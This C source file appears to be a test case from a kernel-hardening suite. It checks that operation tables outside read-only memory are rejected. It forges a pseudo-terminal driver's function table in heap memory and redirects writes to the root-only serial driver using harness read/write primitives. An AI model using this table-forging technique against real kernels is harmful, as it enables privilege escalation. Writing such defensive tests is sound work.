// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

#include <asm/ioctls.h>

ATTACK("const_ops", "forged_table", "const_ops: operation table outside of read-only data",
       "The program builds a table of operations in the kernel's ordinary memory, with "
       "functions of the right types, and leads the driver of its own terminal there.",
       "A table is used only when it lies among the constants.",
       "What the program writes to its terminal goes to a driver of its choice: the serial line, "
       "which only root may write.");

#define TABLE_SIZE 32
#define WORD "serial\n"

static long master, slave;

static void open_terminal(void)
{
	int number = -1;
	const int unlocked = 0;
	char name[32] = { 0 }, *end = name;

	master = call3(__NR_open, (long)"/dev/ptmx", O_RDWR | O_NOCTTY | O_NONBLOCK, 0);
	call3(__NR_ioctl, master, TIOCSPTLCK, (long)&unlocked);
	call3(__NR_ioctl, master, TIOCGPTN, (long)&number);
	append_text(&end, "/dev/pts/");
	append_number(&end, (unsigned long)number);
	slave = call3(__NR_open, (long)name, O_RDWR | O_NOCTTY | O_NONBLOCK, 0);
}

/* What is written to the terminal comes out at its master. */
static bool master_gets_it(void)
{
	char bytes[16];

	return call3(__NR_write, slave, (long)WORD, sizeof(WORD) - 1) == sizeof(WORD) - 1 &&
	       call3(__NR_read, master, (long)bytes, sizeof(bytes)) > 0;
}

static bool control(void)
{
	open_terminal();
	return is_ordinary() && slave >= 0 && master_gets_it();
}

/* The heap's descriptor 0 is never used: 128 bytes that nobody will miss. */
static bool fire(void)
{
	const uint64_t terminal =
		peek(file_struct(own_task(), (int)slave) + member("file.private"));
	const uint64_t place = terminal + member("terminal.driver");
	const uint64_t real = peek(place), forged = peek(symbol("heap_slabs_base"));

	for (unsigned int i = 0; i < TABLE_SIZE; i += 8)
		poke(forged + i, peek(real + i));
	poke(forged + member("terminal_driver.write"), symbol("serial_write"));
	poke(place, forged);
	return !master_gets_it();
}

static void victim(void)
{
	victim_waits();
}
